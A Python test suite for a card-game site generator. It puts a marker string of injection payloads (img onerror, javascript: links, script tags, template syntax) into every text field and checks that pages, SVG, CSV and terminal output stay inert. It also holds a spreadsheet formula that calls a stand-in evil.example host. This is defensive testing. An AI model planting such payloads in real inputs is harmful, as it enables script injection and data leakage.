"""Text is text: a marker that would be markup, put into every field that takes it, is shown as it was written and makes
nothing.

The fields are found from the shapes of our files (`generator.catalog.layout`), the marker goes into a small project
with one of everything, and the whole build of it is looked at: each file, and each page in Chromium.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import xml.etree.ElementTree as etree
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml
from conftest import Pages, at_rest, serving
from figures import note
from jinja2 import Environment
from mkdocs.utils.meta import get_data
from msgspec import Struct, field
from small_project import GOOD, ROOT, make_buildable

from generator.catalog.layout import CARD_KINDS, SCHEMAS, STATEMENT, SUBTYPES, card_file
from generator.catalog.problems import CatalogError
from generator.catalog.read import read_catalog
from generator.catalog.shapes import Anything, Either, Keys, Many, Maybe, Text
from generator.cli import main
from generator.database.exports import export
from generator.rulings import read_scenarios
from generator.site import links
from generator.site.book import Book
from generator.site.build import BuildError, build_site, render
from generator.site.policy import POLICY
from generator.site.settings import SETTINGS, problems_of_settings
from generator.site.writer import Writer

MARKER = (
    "m@q<img src=x onerror=fnord()>\"'&amp;&lt;b&gt;](javascript:fnord()) [a](javascript:fnord()) <javascript:fnord()>"
    " {{7*7}} {% raw %} **b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]>"
    " ${fnord()} :bomb:"
)
BRIEF = "m@q<img src=x onerror=fnord()>"
"""The same for texts that may not be so long."""
PLAIN = MARKER.replace("**b**", "b").replace("`c`", "c")
"""The same in our own words, where a terminal shows the words of what is strong or code."""
TEMPLATES: set[str] = set()
"""Those that the build of the marked project asks for."""
HIDDEN = (
    "\x00",
    "\x1b",
    "\x7f",
    "\x85",
    "\u200b",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\ue000",
    "\u2028",
    "\u034f",
    "\u3164",
    "\ufffe",
    "\uffff",
)


def marker(number: int) -> str:
    """The marker with a number of its own."""
    return MARKER.replace("@", str(number))


class Field(Struct):
    """A text of a file, by its place in the shapes, as it stands in the file."""

    file: str
    name: str
    start: int
    end: int
    takes: str = field(default="")


MORE = {
    "cards/toy/specials.yaml": (
        """
  - id: rumor
    name: Rumor
    type_line: Special
    attributes: [Secret]
    aliases: [Hearsay]
    remark: Nobody knows.
    rarity: rare
    source: toy-blackout
    clauses:
      - {note: "It travels.", reason: "No sentence says so."}
"""
    ),
    "rules/toy/glossary.yaml": (
        """
- {id: roll-of-dice, term: toss, plural: tosses, meaning: Two dice., section: roll, also: [throw]}
"""
    ),
    "rules/toy/figures.yaml": (
        """
- id: course
  title: The course of a roll
  section: roll
  boxes:
    - {title: Roll, says: Two dice., section: roll, aside: Done}
  last: Nothing
  rulings: [poets-alone]
- id: rows
  title: What a toss does
  section: roll
  columns: [The toss, Who, What]
  boxes:
    - {title: High, says: It fails., section: roll, aside: all, ruling: poets-alone}
"""
    ),
    "rules/toy/errata.yaml": (
        """
- id: rumor-slower
  cards: [rumor]
  since: second
  title: Slower
  says: It was faster.
  states: [toy-blackout]
  changes:
    - was: {note: "It ran.", reason: "No sentence said so."}
"""
    ),
    "rules/toy/game.yaml": (
        """
hooks: deluxe
statements: [toy-]
sentences-say: TOY
shares-cards-with: [toil]
no-place-for: [uncontrolled]
sets-called: [{set: toy, called: the toys}]
example: toy control bakers>poets
searched-attacks: [control at=1]
no-power: "{} has no Power: nobody attacks it."
showcase: [bakers]
download-example: {card: bakers, attribute: Secret, power: 2}
first-game:
  ruling: poets-alone
  parts:
    - {id: begin, title: Begin, lines: [{says: Toss two dice., section: roll}]}
  turn:
    - {says: Nobody plays., section: roll, plays: 0}
outranks: Cards outrank all but [[#roll|one]].
moved:
  - {from: others, sections: [roll]}
  - {from: former-attacks, now: attacks, sections: [attacks]}
coming-from: {game: toil, differences: [dice]}
faces:
  corner: 3
  kinds:
    group: {paper: "#fff", band: "#000", ink: "#123", faint: "#abcdef", accent: "#456", on-band: "#fff", on-accent: "#fff"}
attack-sum:
  kinds: [Control]
  note: That is all.
  rows:
    - {what: The attacker, cells: [+Power], terms: [power]}
    - {what: A bad roll, cells: [nothing], besides: [destroys]}
without-place: {capture: discarded, move: uncontrolled}
besides:
  - {id: destroys, says: a bad roll destroys, cites: [toy-roll]}
tokens: true
relief: true
goals: {words: [players, groups], players: 4, victims: [group], cites: [ALL]}
"""  # noqa: E501
    ),
    "cards/toil/groups.yaml": (
        """
set: toil
kind: group
cards:
  - {id: diggers, name: Diggers, power: 3, resistance: 4, arrows: {in: left, out: [top]}}
  - {id: weavers, name: Weavers, power: 2, resistance: 3, arrows: {in: left, out: [top]}}
"""
    ),
    "rules/toil/game.yaml": (
        """
hooks: deluxe
example: toil control diggers>weavers
goals: {words: [players, groups], players: 4, victims: [group], cites: [ALL]}
"""
    ),
    "rules/toil/terms.yaml": (
        """
opposites:
  pairs: {}
fails_from: 11
terms:
  - {id: power, say: attack +Power of the attacker, cites: [toy-roll]}
requirements: []
goals: []
"""
    ),
    "rules/toil/glossary.yaml": "- {id: die, term: die, plural: dice, meaning: A cube., section: roll}\n",
    "rules/toil/conflicts.yaml": "[]\n",
    "rules/toil/01-attacks.md": (
        """
# 1 Attacks {#attacks}

## 1.1 The roll {#roll}

Roll a die.
~ toy-roll
"""
    ),
    "rules/differences.yaml": (
        """
- id: dice
  topic: Attacks
  title: How many dice
  games:
    toy: {says: Two of them., section: roll}
    toil: {says: One., section: roll}
"""
    ),
    "rules/toy/rulings/basic.yaml": (
        """
- id: poets-alone
  title: Poets alone
  question: And alone?
  answer: The same.
  headline: The same
  section: roll
  sources: [toy-roll]
  about: Straight Groups
  formerly: [alone]
  position: toy control bakers>poets
  expect:
    - {strength: 2, note: So it is.}
  counter:
    says: Not with these.
    position: toy control poets>bakers
    expect:
      - {strength: -4, note: And these.}
"""
    ),
}
"""What the project needs beside the good files, so that it has one of everything."""


SAID = {
    "kind": "rule",
    "section": "Others",
    "page": "2",
    "line": "6",
    "gist": "It is so.",
    "cards": [],
    "checkable": False,
}
"""A statement that a template or a script cites."""


def project(folder: Path) -> None:
    """Write a project with a text of every kind."""
    shutil.copytree(GOOD, folder, dirs_exist_ok=True)
    for file, more in MORE.items():
        (folder / file).parent.mkdir(exist_ok=True)
        with (folder / file).open("a", encoding="utf-8") as opened:
            opened.write(more.removeprefix("\n"))
    sets = folder / "cards/sets.yaml"
    toil = "  - {id: toil, title: Toil, short: Toil, numbers: [power, resistance], alignments: [], attributes: []}\n"
    sets.write_text(
        sets.read_text(encoding="utf-8").replace(
            "sets:\n", f"{toil}sets:\n  - {{id: toil, game: toil, title: Toil, year: 2002}}\n"
        ),
        encoding="utf-8",
    )
    documents = folder / "rules/documents.yaml"
    documents.write_text(
        "- {id: toy, title: The Rules of Toy, short: Toy rules, year: 2001, edition: First, publisher: Toymakers, note:"
        " Out of print.}\n",
        encoding="utf-8",
    )
    terms = folder / "rules/toy/terms.yaml"
    text = terms.read_text(encoding="utf-8")
    terms.write_text(text.replace("{id: power, say:", "{id: power, label: strength of arms, say:"), encoding="utf-8")
    ours = [
        path.read_text(encoding="utf-8")
        for kind in ("*.j2", "assets/*.js")
        for path in (ROOT / "site_templates").glob(kind)
    ]
    known = {
        cite
        for path in ROOT.glob("rules/statements/*.jsonl")
        for cite in re.findall(r'"id": "([\w-]+)"', path.read_text(encoding="utf-8"))
    }
    cited = sorted({each for text in ours for each in re.findall(r'"([\w-]+)"', text)} & known)
    with (folder / "rules/statements/toy.jsonl").open("a", encoding="utf-8") as opened:
        opened.writelines(json.dumps({**SAID, "id": cite}) + "\n" for cite in cited)
    for game in folder.glob("rules/*/game.yaml"):
        game.write_text(game.read_text(encoding="utf-8").replace("[ALL]", f"[{', '.join(cited)}]"), encoding="utf-8")
    anchors = sorted({anchor for text in ours for anchor in re.findall(r'sec\("([\w-]+)"\)', text)})
    sections = "".join(
        f"\n## 2.{at} Another {{#{anchor}}}\n\nIt is so.\n~ toy-roll\n" for at, anchor in enumerate(anchors, 1)
    )
    (folder / "rules/toy/02-others.md").write_text(f"# 2 Others {{#others}}\n{sections}", encoding="utf-8")
    assert set() == reads(folder)


def kind_of(file: str) -> str:
    """What a file of a project holds: cards, sets, rulings, terms …"""
    *folders, name = file.removesuffix(".yaml").split("/")
    if folders[0] == "cards":
        return "sets" if name == "sets" else "cards"
    return folders[-1] if folders[-1] in ("rulings", "faq") else name


def shape_of(file: str, node: yaml.MappingNode) -> Any:
    """The shape of a file of a project."""
    kind = kind_of(file)
    if kind == "cards":
        values = {key.value: value.value for key, value in node.value}
        return card_file(values["kind"], values.get("subtype"))
    return SCHEMAS[f"{'cards' if kind == 'sets' else 'rules'}/{kind}.schema.json"][1]


def texts(shape: Any, node: yaml.Node, name: str) -> Iterator[tuple[str, yaml.ScalarNode]]:
    """Every text below a node, by the keys that lead to it."""
    if isinstance(shape, Maybe):
        yield from texts(shape.of, node, name)
    elif isinstance(shape, Many) and isinstance(node, yaml.SequenceNode):
        for child in node.value:
            yield from texts(shape.of, child, name)
    elif isinstance(shape, Keys) and isinstance(node, yaml.MappingNode):
        for key, child in node.value:
            if inner := {**shape.needed, **shape.may}.get(key.value, shape.others):
                yield from texts(inner, child, f"{name}.{key.value}")
    elif isinstance(shape, Either):
        if isinstance(node, yaml.ScalarNode):
            yield from texts(shape.text, node, name)
        else:
            keys = {key.value for key, _ in node.value}
            yield from texts(next(form for form in shape.forms if next(iter(form.needed)) in keys), node, name)
    elif isinstance(shape, Anything):
        yield from said_anywhere(node, name)
    elif isinstance(shape, Text) and isinstance(node, yaml.ScalarNode):
        yield name, node


def said_anywhere(node: yaml.Node, name: str) -> Iterator[tuple[str, yaml.ScalarNode]]:
    """Every text below a node whose shape its own reader knows: a table, its plays, what is expected."""
    if isinstance(node, yaml.MappingNode):
        for key, child in node.value:
            yield from said_anywhere(child, f"{name}.{key.value}")
    elif isinstance(node, yaml.SequenceNode):
        for child in node.value:
            yield from said_anywhere(child, name)
    elif isinstance(node, yaml.ScalarNode) and node.tag == "tag:yaml.org,2002:str":
        yield name, node


def fields(folder: Path) -> list[Field]:
    """Every text in the YAML files of a project."""
    found = []
    for path in sorted((*folder.glob("cards/**/*.yaml"), *folder.glob("rules/**/*.yaml"))):
        file, text = path.relative_to(folder).as_posix(), path.read_text(encoding="utf-8")
        node = yaml.compose(text)
        found += [
            Field(file, f"{kind_of(file)}{name}", inner.start_mark.index, inner.end_mark.index)
            for name, inner in texts(shape_of(file, node), node, "")
        ]
    return found


FREE = ("", "prose")
"""What a text that is no name of something refers to."""


def named(shape: Any, name: str, refers: tuple[str, ...] = FREE) -> Iterator[str]:
    """The name of every text in a shape, as `fields` gives it."""
    if isinstance(shape, Maybe | Many):
        yield from named(shape.of, name, refers)
    elif isinstance(shape, Keys):
        for key, inner in {**shape.needed, **shape.may}.items():
            yield from named(inner, f"{name}.{key}", refers)
    elif isinstance(shape, Either):
        for inner in (shape.text, *shape.forms):
            yield from named(inner, name, refers)
    elif isinstance(shape, Text) and shape.refers in refers:
        yield name


def all_names(refers: tuple[str, ...] = FREE) -> set[str]:
    """The name of every text that our files can have."""
    found = {
        name
        for kind in CARD_KINDS
        for subtype in SUBTYPES.get(kind, (None,))
        for name in named(card_file(kind, subtype), "cards", refers)
    }
    for path, (_, shape) in SCHEMAS.items():
        kind = path.rpartition("/")[2].removesuffix(".schema.json")
        found |= set(named(shape, kind, refers)) if kind != "card" else set()
    return found


def replaced(text: str, start: int, end: int, value: str) -> str:
    """A YAML text with another value in a place."""
    tail = "\n" if text[start:end].endswith("\n") else ""
    return text[:start] + json.dumps(value, ensure_ascii=True) + tail + text[end:]


def reads(folder: Path) -> set[str]:
    """The codes of the problems of a project."""
    try:
        read_scenarios(read_catalog(folder))
    except CatalogError as error:
        return {problem.code for problem in error.problems}
    return set()


@pytest.fixture(scope="module")
def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, str]]:
    """A project with a marker in every text that takes one, built; the names of the fields by the numbers of the
    markers.
    """
    folder = tmp_path_factory.mktemp("marked")
    project(folder)
    found = fields(folder)
    for each in found:
        path = folder / each.file
        text = path.read_text(encoding="utf-8")
        for mark in (MARKER, MARKER.replace("]]", "] ]")):  # our own words refuse what looks like a link
            path.write_text(replaced(text, each.start, each.end, mark), encoding="utf-8")
            each.takes = each.takes or ("" if reads(folder) else mark)
        path.write_text(text, encoding="utf-8")
    names = {}
    for number, each in reversed(list(enumerate(found, 1))):
        if each.takes:
            path = folder / each.file
            text = path.read_text(encoding="utf-8")
            path.write_text(
                replaced(text, each.start, each.end, each.takes.replace("@", str(number))), encoding="utf-8"
            )
            names[number] = each.name
    chapter = folder / "rules/toy/01-attacks.md"
    text = chapter.read_text(encoding="utf-8")
    safe = marker(900).replace("{{", "{ {").replace("<", "< ").replace("]]", "] ]")
    chapter.write_text(
        text.replace("The roll {", f"{marker(901)} {{").replace("Add and", f"{safe} Add and"), encoding="utf-8"
    )
    names |= {900: "chapter text", 901: "chapter title", 902: "attributes of a card"}
    for file in ("toy/specials", "sets"):  # a word that a card and the list of its game both have
        path = folder / f"cards/{file}.yaml"
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("Secret]", f"Secret, {json.dumps(marker(902))}]"), encoding="utf-8")
    statements = folder / "rules/statements/toy.jsonl"
    text = statements.read_text(encoding="utf-8")
    first, *others = [json.loads(line) for line in text.splitlines()]
    for number, key in enumerate(named(STATEMENT, ""), 910):
        told = first.get(key[1:], "") if isinstance(first.get(key[1:], ""), str) else ""
        for mark in (f"{marker(number)} {told}", BRIEF.replace("@", str(number))):
            marked = {**first, key[1:]: mark}
            statements.write_text("".join(f"{json.dumps(each)}\n" for each in (marked, *others)), encoding="utf-8")
            if f"statement{key}" not in names.values() and not reads(folder):
                first, names[number] = marked, f"statement{key}"
    statements.write_text("".join(f"{json.dumps(each)}\n" for each in (first, *others)), encoding="utf-8")
    assert {"statement.gist", "statement.section", "statement.kind", "statement.page", "statement.line"} <= set(
        names.values()
    )
    assert set() == reads(folder)
    make_buildable(folder)
    synonyms = folder / "rules/synonyms.yaml"
    phrases = yaml.safe_load(synonyms.read_text(encoding="utf-8"))
    for number, (name, values) in enumerate(lists(phrases, "synonyms"), 1_000):
        values.append(marker(number))
        names[number] = name
    synonyms.write_text(yaml.safe_dump(phrases), encoding="utf-8")
    names |= mark_settings(folder)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DOSSIER_CORES", "1")  # so that all of it happens in this process
        found_before = Environment.get_template
        patch.setattr(
            Environment,
            "get_template",
            lambda self, name, *given, **named: TEMPLATES.add(name) or found_before(self, name, *given, **named),
        )
        build_site(folder)
    return folder, names


def mark_settings(folder: Path) -> dict[int, str]:
    """Put a marker into the first text of each setting of the site that takes it, as it is or in an address."""
    path = folder / "mkdocs.yml"
    text = path.read_text(encoding="utf-8").replace('site_url: ""', "site_url: https://dossier.example/")
    text += "site_author: Somebody\n"
    found = {name: node for name, node in texts(SETTINGS, yaml.compose(text), "mkdocs")}
    assert {"mkdocs.hooks", "mkdocs.extra_javascript"} == set(named(SETTINGS, "mkdocs")) - found.keys()
    names = {}
    for number, (name, node) in sorted(enumerate(found.items(), 2_000), reverse=True):
        for mark in (marker(number), f"https://dossier.example/?{marker(number)}"):
            tried = replaced(text, node.start_mark.index, node.end_mark.index, mark)
            path.write_text(tried, encoding="utf-8")
            if not problems_of_settings(folder):
                text, names[number] = tried, name
                break
    path.write_text(text, encoding="utf-8")
    return names


def lists(data: Any, name: str) -> Iterator[tuple[str, list[Any]]]:
    """Every list of texts in YAML data, with the keys that lead to it."""
    if isinstance(data, dict):
        for key, each in data.items():
            yield from lists(each, f"{name}.{key}")
    elif isinstance(data, list) and all(isinstance(each, str) for each in data):
        yield name, data
    elif isinstance(data, list):
        for each in data:
            yield from lists(each, name)


BLANK = "data:image/gif;base64,R0lGODlhAQABAAD/ACwAAAAAAQABAAACADs="
"""The picture of nothing that the list of cards itself has, for readers without scripts."""


class Shown(HTMLParser):
    """What a page holds: its text, its attributes, and what no page of ours has."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element."""
        for name, value in attrs:
            self.words.append(value or "")
            if name.startswith("on") or (
                value != BLANK and re.match(r"\s*(javascript|vbscript|data):", value or "", re.IGNORECASE)
            ):
                self.wrong.append(f"<{tag} {name}={value}>")
            if (
                name in ("href", "src")
                and re.match(r"[a-z]+:|//", value or "")
                and not re.match("https?://", value or "")
            ):
                self.wrong.append(f"<{tag} {name}={value}>")
            if name in ("href", "src") and value == "x":
                self.wrong.append(f"<{tag} {name}={value}>")
        if tag == "script" and not dict(attrs).get("src"):
            self.wrong.append("<script>")
        if "fnord" in tag or any("fnord" in name for name, _ in attrs):
            self.wrong.append(f"<{tag} {attrs}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        """Keep a text."""
        self.words.append(data)


def test_every_field_is_marked(marked: tuple[Path, dict[int, str]], tmp_path: Path) -> None:
    """Of each text in the shapes the project has one, and it takes the marker, or is the name of something or a
    sentence.
    """
    _, names = marked
    project(tmp_path)
    assert set() == all_names() - {each.name for each in fields(tmp_path)}
    free = set(names.values())
    settings = {name for name in free if name.startswith("mkdocs")}
    assert {"extra.report", "copyright", "site_author", "site_description", "site_name", "theme.features"} == {
        name.removeprefix("mkdocs.") for name in settings
    }
    bound = {each.name for each in fields(tmp_path)} - free
    print(f"\n{len(names)} markers in {len(free)} fields; bound to other things: {', '.join(sorted(bound))}")
    for name in (
        "cards.cards.name",
        "rulings.title",
        "rulings.question",
        "rulings.answer",
        "faq.title",
        "sets.games.title",
        "sets.games.short",
    ):
        assert any(each.endswith(name) for each in free), (name, sorted(free))


def test_every_template_is_rendered(marked: tuple[Path, dict[int, str]]) -> None:
    """The project has a page of each kind, so what is looked at here is looked at in each template."""
    assert marked
    assert set() == {path.name for path in (ROOT / "site_templates").glob("*.j2")} - TEMPLATES


def test_a_key_that_is_no_word_of_ours_is_a_problem(tmp_path: Path) -> None:
    """Where any key may stand, and another reader says which, the marker is none."""
    project(tmp_path)
    tried = set()
    for path in sorted(tmp_path.glob("rules/*/rulings/*.yaml")):
        text = path.read_text(encoding="utf-8")
        for name, key in keys_anywhere(
            shape_of(path.relative_to(tmp_path).as_posix(), yaml.compose(text)), yaml.compose(text), ""
        ):
            path.write_text(replaced(text, key.start_mark.index, key.end_mark.index, marker(1)), encoding="utf-8")
            assert reads(tmp_path), name
            tried.add(name)
        path.write_text(text, encoding="utf-8")
    assert {".expect.strength", ".counter.expect.strength"} <= tried


def keys_anywhere(shape: Any, node: yaml.Node, name: str) -> Iterator[tuple[str, yaml.ScalarNode]]:
    """Every key below a node that no shape names."""
    if isinstance(shape, Maybe | Many):
        for child in node.value if isinstance(shape, Many) else [node]:
            yield from keys_anywhere(shape.of, child, name)
    elif isinstance(node, yaml.MappingNode) and isinstance(shape, Keys | Anything):
        named = {**shape.needed, **shape.may} if isinstance(shape, Keys) else {}
        for key, child in node.value:
            if key.value not in named:
                yield f"{name}.{key.value}", key
            yield from keys_anywhere(named.get(key.value, Anything()), child, f"{name}.{key.value}")
    elif isinstance(node, yaml.SequenceNode):
        for child in node.value:
            yield from keys_anywhere(Anything(), child, name)


def test_pages_show_the_marker_and_nothing_of_it_is_markup(marked: tuple[Path, dict[int, str]]) -> None:
    """No element, attribute or script of a page comes from a marker, and what a page shows of one is what was
    written.
    """
    folder, names = marked
    wrong, seen = {}, set()
    for path in sorted((folder / "site").rglob("*.html")):
        shown = Shown()
        shown.feed(path.read_text(encoding="utf-8"))
        if shown.wrong:
            wrong[path.relative_to(folder).as_posix()] = shown.wrong
        words = "\n".join(shown.words)
        seen |= {int(number) for number in re.findall(r"m(\d+)q<img src=x onerror=fnord\(\)>", words)}
        assert not re.search(
            r"m\d+q(?!<img src=x|<img$|< img src=x|-img-src-x|%3Cimg%20src|$|[^<&]{0,3}…)", words, re.MULTILINE
        ), path
        assert "49" not in words or "{{7*7}}" in words
    assert {} == wrong
    hidden = {name for number, name in names.items() if number not in seen and number != 900}
    print(f"\n{len(seen)} markers seen on pages; on none: {', '.join(sorted(hidden))}")
    assert len(seen) > 20


def test_other_files_hold_the_marker_as_text(marked: tuple[Path, dict[int, str]]) -> None:
    """Drawings are XML without elements of the marker, JSON and CSV are read back as they were written."""
    folder, _ = marked
    drawings = 0
    for path in (folder / "site").rglob("face.svg"):
        drawings += 1
        assert "<img" not in path.read_text(encoding="utf-8")
        tags = {element.tag.rpartition("}")[2] for element in etree.parse(path).iter()}
        assert not tags & {"img", "script", "a", "foreignObject", "style"}
    assert drawings
    for path in (folder / "site").rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    with (folder / "site/downloads/cards.csv").open(encoding="utf-8", newline="") as file:
        assert any("<img src=x onerror=fnord()>" in row["name"] for row in csv.DictReader(file))


@pytest.mark.parametrize(
    "computed", ['=HYPERLINK("http://evil.example/?"&A1,"Rumor")', "+1", "-1+A1", "@SUM(A1)", " =1", "\uff1d1"]
)
def test_no_spreadsheet_computes_a_text(tmp_path: Path, computed: str) -> None:
    """A cell whose text would be a formula has an apostrophe before it."""
    project(tmp_path)
    cards = tmp_path / "cards/toy/specials.yaml"
    cards.write_text(
        cards.read_text(encoding="utf-8").replace("name: Rumor", f"name: {json.dumps(computed)}"), encoding="utf-8"
    )
    (path,) = export(read_catalog(tmp_path), ["csv"], tmp_path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert f"'{computed}" in {row["name"] for row in rows}
    assert [] == [cell for row in rows for cell in row.values() if re.match(r"\s*[=+@-](?!\d+$)", cell)]


PRINTED = {
    "cards.cards.name",
    "cards.cards.type_line",
    "cards.cards.remark",
    "cards.cards.clauses.note",
    "attributes of a card",
    "errata.title",
    "errata.says",
    "sets.editions.title",
    "rulings.title",
    "rulings.question",
    "rulings.answer",
    "rulings.counter.says",
    "rulings.expect.note",
    "documents.short",
    "chapter title",
    "conflicts.title",
    "scenario",
}
"""What the terminal shows of cards, rulings, sections, conflicts and a player's own scenarios."""


def test_the_terminal_shows_the_marker_as_text(
    marked: tuple[Path, dict[int, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whatever command prints a marker prints all of it, and no sign, style or link that comes of it; the search, which
    cuts texts, what is there.
    """
    folder, names = marked
    catalog = read_catalog(folder)
    mine = {key: marker(number) for number, key in enumerate(("title", "question", "answer"), 905)} | {
        "position": "toy control bakers>poets",
        "expect": [{"strength": 2, "note": marker(908)}],
        "counter": {"says": marker(909), "position": "toy control poets>bakers", "expect": [{"strength": -4}]},
    }
    (tmp_path / "mine.yaml").write_text(yaml.safe_dump(mine), encoding="utf-8")
    cards = [["card", record.id.partition("/")[2]] for record in catalog.cards]
    others = [["ruling", *ruling] for ruling in ((), *((each.id,) for each in catalog.rulings))]
    seen = set()
    more = [
        ["coverage", "--map"],
        ["coverage"],
        ["attack", "toy control bakers>poets"],
        ["diff-answers", "toy", "toil"],
        ["scenario", str(tmp_path / "mine.yaml")],
    ]
    dated = [["card", "bakers", "--as-of", "first"], ["card", "blackout", "--as-of", "first"]]
    for line in [*cards, *dated, *others, *more, ["search", "poets"], ["search", "fnord", "--limit", "200"]]:
        with pytest.raises(SystemExit) as ended:
            main([*line, "--root", str(folder)])
        printed = capsys.readouterr()
        assert (0, "") == (ended.value.code, printed.err), line
        assert printed.out.replace("\n", "").isprintable() and "\N{BOMB}" not in printed.out, line
        whole = "".join(printed.out.split())
        found = re.findall(r"m(\d+)q", whole)
        seen |= set(found)
        for number in found if line[0] != "search" else ():
            brief = names.get(int(number), "").startswith(("statement.page", "statement.line"))
            shown = ["".join(text.replace("@", number).split()) for text in ([BRIEF] if brief else [MARKER, PLAIN])]
            assert any(text in whole for text in shown), (line, names.get(int(number)))
        assert found or line[0] != "search"
    assert set() == PRINTED - {names.get(int(number), "scenario") for number in seen}


def test_the_terminal_reads_no_markup() -> None:
    """Styles are given beside words, never within them, so nothing that a command prints can be forgotten: there is no
    markup to escape.
    """
    source = (ROOT / "generator/cli.py").read_text(encoding="utf-8")
    assert "from_markup" not in source and 2 == source.count("emoji=False, markup=False)")
    assert 1 == source.count("escape(")  # in the help, which is our own


def test_what_looks_like_a_link_and_is_none_is_refused(tmp_path: Path) -> None:
    """In every field of our own words, with one notation for whoever reads, shows or prints it: nothing that `check`
    takes is left on a page.
    """
    project(tmp_path)
    prose = all_names(("prose",))
    found = [each for each in fields(tmp_path) if each.name in prose]
    assert set() == prose - {each.name for each in found}
    odd = (
        "[[foo[bar]]",
        "[[#roll|a|b]]",
        "[[Poets",
        "Poets]]",
        "[[]]",
        "[[Poets|a[b]c]]",
        "[[#roll|[[Poets]]]]",
        "[[#zzz[y]]",
    )
    for number, each in enumerate([*found, *found[:1] * len(odd)]):
        path = tmp_path / each.file
        text = path.read_text(encoding="utf-8")
        path.write_text(replaced(text, each.start, each.end, f"see {odd[number % len(odd)]}"), encoding="utf-8")
        assert "broken-link" in reads(tmp_path), (each, odd[number % len(odd)])
        path.write_text(text, encoding="utf-8")


LISTEN = """() => {
  self.said = [];
  addEventListener("securitypolicyviolation", (event) => said.push(`${event.violatedDirective} ${event.blockedURI}`));
  self.fnord = () => said.push("fnord");
}"""


def test_no_page_runs_or_loads_anything_of_a_marker(marked: tuple[Path, dict[int, str]], new_page: Pages) -> None:
    """In Chromium: no script of a marker runs, nothing of it is loaded, and no page breaks its own policy."""
    folder, names = marked
    with serving(folder / "site") as url:
        page = new_page()
        page.add_init_script(f"({LISTEN})()")
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        said: list[str] = []
        pages = sorted((folder / "site").rglob("*.html"))
        for path in pages:
            page.goto(url + path.relative_to(folder / "site").as_posix().removesuffix("index.html"))
            if page.locator("[data-games]").count():  # a calculator, which fetches its game
                at_rest(page)
            said += (f"{path}: {each}" for each in page.evaluate("() => said"))
        fields_marked = len(set(names.values()))
        note("marked", fields=fields_marked, markers=len(names), pages=len(pages), violations=len(said))
        assert [] == said
        assert [] == [
            each
            for each in asked
            if each.endswith("/x")
            or "javascript" in each.rpartition("/")[2].partition(":")[0] + ":"
            and "fnord" in each
        ]
        page.close()  # while its server is there


KEPT_BY_OTHERS = (
    MARKER,
    "",
    "null",
    "[]",
    "{}",
    '"x"',
    "[null, 1, {}]",
    '{"color": null}',
    '{"color": {"scheme": "<b>", "media": 7}}',
    '{"index": 9, "color": {"scheme": "slate"}}',
    '{"index": 1, "color": 7}',
    "[" * 3_000,
)
"""What may stand in the storage of the browser where we keep something."""


@pytest.mark.parametrize("kept", KEPT_BY_OTHERS, ids=range(len(KEPT_BY_OTHERS)))
def test_what_the_browser_has_kept_is_text(marked: tuple[Path, dict[int, str]], new_page: Pages, kept: str) -> None:
    """Whatever stands under our names in the storage of the browser: pages open without an error, with a color scheme,
    and run none of it.
    """
    folder, _ = marked
    with serving(folder / "site") as url:
        page = new_page()
        page.add_init_script(f"({LISTEN})()")
        page.goto(url)
        page.evaluate(
            "(kept) => { for (const key of ['/.favorites', '/.game', '/.__palette']) localStorage.setItem(key,"
            " kept); }",
            kept,
        )
        for where in ("", "cards/", "cards/toy/poets/", "search/?q=poets"):
            page.goto(url + where)
            at_rest(page)
            assert ("default", []) == (
                page.evaluate("document.body.dataset.mdColorScheme"),
                page.evaluate("() => said"),
            )
        page.close()


def test_what_is_typed_and_what_an_address_says_is_text(marked: tuple[Path, dict[int, str]], new_page: Pages) -> None:
    """The marker in every field that takes text, and behind every address: nothing of it runs, loads or makes an
    element.
    """
    folder, _ = marked
    typed = marker(903)
    tried = 0
    with serving(folder / "site") as url:
        page = new_page()
        page.add_init_script(f"({LISTEN})()")
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        # One page of those that have the same scripts.
        pages = {
            tuple(re.findall('<script[^>]*src="(?:\\.\\./)*([^"]*)', path.read_text(encoding="utf-8"))): path
            for path in (folder / "site").rglob("index.html")
        }
        for path in sorted(pages.values()):
            place = url + path.parent.relative_to(folder / "site").as_posix().removeprefix(".").rstrip("/") + "/"
            for behind in (f"?q={quote(typed)}&find={quote(typed)}&kind={quote(typed)}", f"#{quote(typed)}"):
                page.goto(place + behind)
                at_rest(page)
                fields = page.locator(
                    "input[type=text]:visible, input[type=search]:visible, input:not([type]):visible, textarea:visible"
                )
                for number in range(fields.count()):
                    fields.nth(number).fill(typed)
                    fields.nth(number).press("Enter")
                    tried += 1
                    if fields.count() <= number + 1:
                        break
                at_rest(page)
                assert [] == page.evaluate("() => said"), place
                assert 0 == page.locator("img[src=x], [onerror], [onclick], a[href^=javascript]").count(), place
        assert tried > 5
        assert [] == [each for each in asked if each.endswith("/x")]
        page.close()
    assert [] == [problem for problem in new_page.problems if "uncaught" in problem]
    new_page.forgive()  # a page that is not there, where a field leads to one


def test_a_violation_would_be_seen(marked: tuple[Path, dict[int, str]], new_page: Pages) -> None:
    """The positive control: a page into which somebody wrote a script, a handler, a style and a picture of another host
    breaks the policy.
    """
    folder, _ = marked
    page_file = folder / "site" / "about" / "index.html"
    html = page_file.read_text(encoding="utf-8")
    evil = (
        "<script>fnord()</script><img src=x onerror=fnord()><p style='color:red'>a</p><img"
        " src='http://127.0.0.1:9/evil.png'>"
    )
    broken = folder / "site" / "broken.html"
    broken.write_text(html.replace("</article>", f"{evil}</article>").replace('="../', '="'), encoding="utf-8")
    with serving(folder / "site") as url:
        page = new_page()
        page.add_init_script(f"({LISTEN})()")
        page.goto(url + "broken.html")
        said = set(page.evaluate("() => said"))
        page.close()  # while its server is there
